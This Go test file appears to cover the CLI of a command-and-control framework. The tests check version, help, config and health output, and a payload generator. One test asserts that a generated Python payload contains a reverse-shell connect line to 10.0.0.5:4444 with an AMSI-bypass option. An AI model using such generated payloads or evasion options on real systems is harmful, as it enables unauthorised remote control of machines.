package main

import (
	"bytes"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/naveenspark/mulic2/pkg/domain"
)

var fixedNow = func() time.Time { return time.Date(2025, 3, 1, 12, 0, 0, 0, time.UTC) }

func TestRunVersion(t *testing.T) {
	for _, arg := range []string{"version", "--version", "-v"} {
		var out bytes.Buffer
		if err := run([]string{arg}, &out); err != nil {
			t.Fatalf("run(%s): %v", arg, err)
		}
		if got := out.String(); got != "mulic2 dev\n" {
			t.Errorf("run(%s) = %q", arg, got)
		}
	}
}

func TestRunHelp(t *testing.T) {
	var out bytes.Buffer
	if err := run([]string{"help"}, &out); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"mulic2 health", "mulic2 payload", "MULIC2_CONFIG"} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("help missing %q", want)
		}
	}
}

func TestRunUnknownCommand(t *testing.T) {
	var out bytes.Buffer
	err := run([]string{"frobnicate"}, &out)
	if err == nil || !strings.Contains(err.Error(), "frobnicate") {
		t.Errorf("err = %v", err)
	}
}

func TestRunPayloadStdout(t *testing.T) {
	var out bytes.Buffer
	err := runPayload([]string{"-host", "10.0.0.5", "-port", "4444", "-kind", "py", "-opt", "bypass-amsi"}, &out, io.Discard, fixedNow)
	if err != nil {
		t.Fatal(err)
	}
	code := out.String()
	if !strings.Contains(code, `s.connect(("10.0.0.5", 4444))`) {
		t.Errorf("unexpected payload:\n%s", code)
	}
	if strings.Index(code, "[bypass-amsi]") > strings.Index(code, "[check-in]") {
		t.Error("option block must precede the body")
	}
}

func TestRunPayloadUnknownKindFallsBack(t *testing.T) {
	var out, errOut bytes.Buffer
	if err := runPayload([]string{"-host", "h", "-port", "1", "-kind", "exe"}, &out, &errOut, fixedNow); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(errOut.String(), "using ps1") {
		t.Errorf("expected fallback notice on stderr, got %q", errOut.String())
	}
	if strings.Contains(out.String(), "unknown kind") {
		t.Errorf("notice leaked into the payload:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "[check-in]") {
		t.Errorf("stdout should hold only the script, got %q", out.String())
	}
}

func TestRunPayloadToFile(t *testing.T) {
	dest := filepath.Join(t.TempDir(), "p.sh")
	var out bytes.Buffer
	if err := runPayload([]string{"-host", "h", "-port", "9", "-kind", "sh", "-o", dest}, &out, io.Discard, fixedNow); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(dest)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(string(data), "#!/bin/sh") {
		t.Errorf("file content = %q", data)
	}
	if !strings.Contains(out.String(), "h:9") {
		t.Errorf("summary = %q", out.String())
	}
}

func TestRunPayloadInvalidTarget(t *testing.T) {
	var out bytes.Buffer
	if err := runPayload([]string{"-host", "h", "-port", "0"}, &out, io.Discard, fixedNow); err == nil {
		t.Error("expected an error for port 0")
	}
}

func TestOptionList(t *testing.T) {
	var o optionList
	_ = o.Set("a")
	_ = o.Set("b")
	if o.String() != "a,b" {
		t.Errorf("String() = %q", o.String())
	}
}

func setEnv(t *testing.T, config, apiURL string) {
	t.Helper()
	t.Setenv("MULIC2_HOME", t.TempDir())
	t.Setenv("MULIC2_CONFIG", config)
	if apiURL != "" {
		t.Setenv("MULIC2_API_URL", apiURL)
	}
}

func writeConfig(t *testing.T, body string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "config.json")
	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestRunConfigErrorIsFatal(t *testing.T) {
	setEnv(t, writeConfig(t, `{"backend":{"api_port":8083}}`), "")

	var out bytes.Buffer
	err := run([]string{"health"}, &out)
	if !errors.Is(err, errReported) {
		t.Fatalf("err = %v, want errReported", err)
	}
	for _, want := range []string{"Configuration error", "c2_default_port", `"api_port": 8083`} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("config screen missing %q", want)
		}
	}
}

func TestRunHealth(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
	}))
	t.Cleanup(srv.Close)
	setEnv(t, writeConfig(t, `{"backend":{"api_port":8083,"c2_default_port":8081}}`), srv.URL)

	var out bytes.Buffer
	if err := run([]string{"health"}, &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "backend online") {
		t.Errorf("output = %q", out.String())
	}
}

func TestRunHealthOffline(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusServiceUnavailable)
	}))
	t.Cleanup(srv.Close)
	setEnv(t, writeConfig(t, `{"backend":{"api_port":8083,"c2_default_port":8081}}`), srv.URL)

	var out bytes.Buffer
	if err := run([]string{"health"}, &out); !errors.Is(err, errReported) {
		t.Fatalf("err = %v", err)
	}
	if !strings.Contains(out.String(), "backend offline") {
		t.Errorf("output = %q", out.String())
	}
}

func TestRunWebWithoutFrontend(t *testing.T) {
	setEnv(t, writeConfig(t, `{"backend":{"api_port":8083,"c2_default_port":8081}}`), "")

	var out bytes.Buffer
	err := run([]string{"web"}, &out)
	if err == nil || !strings.Contains(err.Error(), "frontend") {
		t.Errorf("err = %v", err)
	}
}

func TestPrintHealthResult(t *testing.T) {
	var out bytes.Buffer
	printHealthResult(&out, true, "http://127.0.0.1:8083", domain.PortConfig{BackendAPI: 8083, C2Default: 8081, Frontend: 5173})
	if !strings.Contains(out.String(), "api 8083 · c2 8081 · frontend 5173") {
		t.Errorf("output = %q", out.String())
	}
}
